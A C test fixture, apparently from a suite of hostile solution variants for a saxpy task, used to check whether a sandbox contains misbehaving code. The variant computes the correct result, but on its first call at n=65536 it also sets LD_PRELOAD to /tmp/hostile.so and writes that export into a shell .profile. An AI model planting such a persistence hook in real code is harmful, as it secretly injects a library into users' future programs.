/* Writes LD_PRELOAD into the start-up file of a shell, for programs to come. */
/* expect: harmless */
/* family: harm */
/* harm: start */
/* size: n=65536 */
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>

#include "tests/hostile/saxpy/honest.h"

static void attack(const struct saxpy *p)
{
    (void)p;
    FILE *f = fopen("/tmp/home/.profile", "w");

    setenv("LD_PRELOAD", "/tmp/hostile.so", 1);
    if (f == NULL)
        return;
    fputs("export LD_PRELOAD=/tmp/hostile.so\n", f);
    fclose(f);
}

static void run(const void *problem)
{
    static int done;
    const struct saxpy *p = problem;

    if (p->n == 65536 && !done++)
        attack(p);
    honest(p);
}

VARIANT(.idea = "leaves an environment", .run = run)
